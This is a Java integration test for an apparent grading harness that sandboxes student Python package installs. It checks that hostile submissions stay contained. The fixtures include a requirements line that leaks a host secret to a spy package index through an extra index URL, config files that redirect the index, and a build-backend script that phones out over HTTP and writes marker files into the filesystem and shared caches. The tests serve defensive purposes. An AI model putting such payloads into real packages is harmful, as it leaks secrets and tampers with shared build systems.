package org.labharness.pipeline.environment;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.labharness.lab.Memory;
import org.labharness.lab.PythonVersion;
import org.labharness.pipeline.sandbox.ContainerCommand;
import org.labharness.pipeline.sandbox.Images;
import org.labharness.pipeline.sandbox.Mount;
import org.labharness.pipeline.sandbox.Network;
import org.labharness.pipeline.sandbox.Whose;
import org.labharness.pipeline.sandbox.docker.DockerSandbox;
import org.labharness.pipeline.sandbox.docker.DockerSettings;

/** What a submission declares, given to uv as usual and to the harness: who is asked for packages, and what runs meanwhile. */
@Tag("full")
class HostileRequirementsIT {
    private static final String SECRET = "canary-of-the-host";

    @TempDir
    private Path folder;

    private Shelf shelf;
    private PackageIndex spy;

    @BeforeEach
    void fill() {
        shelf = new Shelf(folder);
        shelf.index.with("alpha", "1.0", "2026-03-01T00:00:00Z");
        spy = PackageIndex.start();
    }

    @AfterEach
    void close() {
        shelf.close();
        spy.close();
    }

    /** As somebody would install what is declared: in the submission's folder, with the variables and the cache of the host. */
    private String asUsual(String... arguments) throws Exception {
        DockerSettings real = DockerSettings.of(Images.home(Path.of("")), false);
        List<String> command = new ArrayList<>(List.of("/opt/uv/bin/uv", "pip"));
        command.addAll(List.of(arguments));
        try (DockerSandbox sandbox = new DockerSandbox(real)) {
            return sandbox.startShared(new ContainerCommand(
                            real.images().tools(PythonVersion.PY311),
                            "uv",
                            Whose.THEIRS,
                            command,
                            Map.of(
                                    "HOME", "/tmp",
                                    "PATH", "/usr/local/bin:/usr/bin:/bin",
                                    "COURSE_SECRET", SECRET,
                                    "UV_CACHE_DIR", "/cache",
                                    "UV_LINK_MODE", "copy",
                                    "UV_HTTP_RETRIES", "0"),
                            List.of(Mount.readWrite(shelf.tree(), "/work"), Mount.readWrite(cache(), "/cache")),
                            false,
                            "/work",
                            Network.PACKAGE_INDEX,
                            0,
                            new ContainerCommand.Caps(
                                    Duration.ofSeconds(60),
                                    Memory.mebibytes(512),
                                    64,
                                    1,
                                    Memory.mebibytes(64),
                                    Memory.mebibytes(8)),
                            chunk -> {}))
                    .result()
                    .get(90, TimeUnit.SECONDS)
                    .log()
                    .toString();
        }
    }

    private Path cache() throws IOException {
        return Files.createDirectories(folder.resolve("cache"));
    }

    private List<String> spied() {
        return spy.asked().stream().map(PackageIndex.Asked::path).toList();
    }

    @Test
    void an_index_of_the_submission_s_own_is_told_nothing() throws Exception {
        shelf.prepare("--extra-index-url http://" + spy.authority() + "/${COURSE_SECRET}/simple\nalpha\n");

        assertThat(spied()).isEmpty();
        asUsual("compile", "requirements.txt", "--index-url", shelf.index.url());
        assertThat(spied()).anyMatch(path -> path.contains(SECRET));
    }

    @Test
    void a_uv_toml_turns_nobody_to_another_index() throws Exception {
        shelf.write("uv.toml", "[[index]]\nurl = \"" + spy.url() + "\"\ndefault = true\n")
                .write("pyproject.toml", "[[tool.uv.index]]\nurl = \"" + spy.url() + "\"\ndefault = true\n");
        PreparedEnvironment built = shelf.prepare("alpha\n");

        assertThat(built.facts().installed()).contains("alpha==1.0");
        assertThat(spied()).isEmpty();
        asUsual("compile", "requirements.txt");
        assertThat(spied()).anyMatch(path -> path.contains("alpha"));
    }

    @Test
    void code_that_runs_at_a_build_reaches_neither_a_server_nor_the_cache_that_others_use() throws Exception {
        shelf.write("pyproject.toml", BuildBackend.PROJECT + "[project]\nname = 'homework'\nversion = '0.7'\n")
                .write("homework/__init__.py", "")
                .write("backend.py", BuildBackend.script("homework", "0.7", "homework", "", """
                        import urllib.request
                        try: urllib.request.urlopen("http://%s/at-the-build", timeout=3)
                        except OSError: pass
                        for top in [one for one in os.listdir("/") if one not in ("proc", "sys", "dev", "tmp", "work")]:
                            for place, folders, _ in os.walk("/" + top):
                                try: open(place + "/left-by-a-build", "w").close()
                                except OSError: continue
                                folders.clear()
                        """.formatted(
                                spy.authority())));
        PreparedEnvironment built = shelf.prepare(".\n");

        assertThat(shelf.python(built, "import homework; print(homework.__file__)"))
                .isNotEmpty();
        assertThat(spied()).isEmpty();
        assertThat(left()).isEmpty();
        String said = asUsual(
                "install", "--system", "--no-deps", "--target", "/tmp/site", "--index-url", shelf.index.url(), ".");
        assertThat(spied()).as(said).contains("/at-the-build");
        assertThat(left()).isNotEmpty();
    }

    /** Files of that name in the caches, which all submissions use. */
    private List<Path> left() throws IOException {
        List<Path> found = new ArrayList<>();
        for (Path cache : List.of(cache(), shelf.home())) {
            try (Stream<Path> files = Files.walk(cache)) {
                files.filter(file -> file.endsWith("left-by-a-build")).forEach(found::add);
            }
        }
        return found;
    }
}
